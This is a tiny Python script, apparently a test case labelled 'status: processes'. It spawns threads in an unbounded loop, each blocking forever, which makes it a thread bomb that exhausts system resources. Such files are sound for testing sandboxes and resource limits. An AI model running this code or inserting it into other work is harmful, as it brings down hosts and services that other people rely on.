# status: processes
import threading

while True:
    threading.Thread(target=threading.Event().wait).start()
